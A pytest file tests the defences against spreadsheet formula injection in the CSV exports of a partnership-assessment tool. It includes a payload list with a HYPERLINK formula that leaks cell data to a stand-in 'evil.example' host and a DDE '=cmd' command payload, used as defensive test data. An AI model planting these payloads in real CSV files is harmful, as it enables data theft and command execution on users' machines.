"""Every CSV Accord writes is safe in a spreadsheet: formulas neutralised, numbers kept as numbers."""

from __future__ import annotations

import csv
import io

import pytest

from accord_partnership.engine.bundle import Bundle, load_bundle
from accord_partnership.engine.bundle_csv import read_bundle_csv
from accord_partnership.engine.catalog import get_framework
from accord_partnership.exports.bundle_file import save_bundle
from accord_partnership.exports.csv_out import BOM, csv_text, safe_cell, unescape_cell, write_csv
from accord_partnership.tui.cli import main

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-3",
    "'already quoted",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_risky_text_gets_an_apostrophe_and_can_be_undone(payload):
    cell = safe_cell(payload)
    assert cell == "'" + payload
    assert unescape_cell(cell) == payload


@pytest.mark.parametrize("text", ["plain", "3 people", "a=b", "50%", "", "ünïcode ✓", "(=)"])
def test_harmless_text_is_untouched(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    text = csv_text(["a", "b", "c", "d", "e"], [[-3, 2.5, -0.25, 0, "-3"]])
    lines = text.split("\r\n")
    assert lines[1] == "-3,2.5,-0.25,0,'-3"
    assert safe_cell(None) == "" and safe_cell(True) == "true" and safe_cell(float("nan")) == ""


def test_quotes_newlines_and_commas_are_quoted_properly():
    text = csv_text(["note"], [['she said "no", then\nleft']])
    assert list(csv.reader(io.StringIO(text))) == [["note"], ['she said "no", then\nleft']]


def test_excel_gets_a_bom(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["a"], [[1]], excel=True)
    assert path.read_bytes() == (BOM + "a\r\n1\r\n").encode("utf-8")
    write_csv(path, ["a"], [[1]])
    assert path.read_bytes() == b"a\r\n1\r\n"


@pytest.fixture
def evil_framework(tmp_path, accord_home):
    """A user's own framework whose item title is a formula."""
    from pathlib import Path

    source = (Path(__file__).parent / "data" / "frameworks" / "mini.toml").read_text()
    folder = accord_home / "frameworks"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "mini.toml").write_text(source.replace('title = "One"', 'title = "=HYPERLINK(\\"http://evil\\")"'))
    return get_framework("mini")


def test_stats_csv_neutralises_framework_and_answer_text(evil_framework, tmp_path, capsys):
    folder = tmp_path / "drop"
    folder.mkdir()
    for n in range(3):
        bundle = Bundle.new(evil_framework, respondent=f"=Person{n}", role="@role")
        bundle.answer("alpha", "one").score = 2 + n
        save_bundle(bundle, evil_framework, folder / f"{n}.toml")
    out = tmp_path / "stats.csv"
    assert main(["stats", str(folder), "--csv", str(out), "--excel"]) == 0
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    one = dict(zip(rows[0], rows[1]))
    assert one["title"] == "'=HYPERLINK(\"http://evil\")"
    assert one["mean"] == "3.0" and one["sd"] == "1.0" and one["n"] == "3"  # numbers, not text
    assert ',3.0,' in text.splitlines()[1]


def test_bundle_export_is_safe_and_reads_back_exactly(tmp_path, capsys):
    scsn = get_framework("scsn-csp")
    bundle = Bundle.new(scsn, respondent="+44 Ann", email="@ann", role="-police", partnership="=CSP")
    for n, payload in enumerate(PAYLOADS):
        item = scsn.section("partnership-working").items[n]
        answer = bundle.answer("partnership-working", item.id)
        answer.score = 3
        answer.note = payload
    source = tmp_path / "b.toml"
    save_bundle(bundle, scsn, source)
    out = tmp_path / "b.csv"
    assert main(["export", str(source), "--csv", "--excel", "--out", str(out)]) == 0
    capsys.readouterr()
    raw = out.read_bytes().decode("utf-8")
    assert raw.startswith(BOM)
    rows = list(csv.reader(io.StringIO(raw.removeprefix(BOM))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][3] == "'+44 Ann" and rows[1][12] == "3"  # the score is a plain number
    loaded, _ = load_bundle(source)
    again, _ = read_bundle_csv(out)
    assert again == loaded
    assert [again.answers[("partnership-working", i.id)].note for i in scsn.section("partnership-working").items[: len(PAYLOADS)]] == PAYLOADS
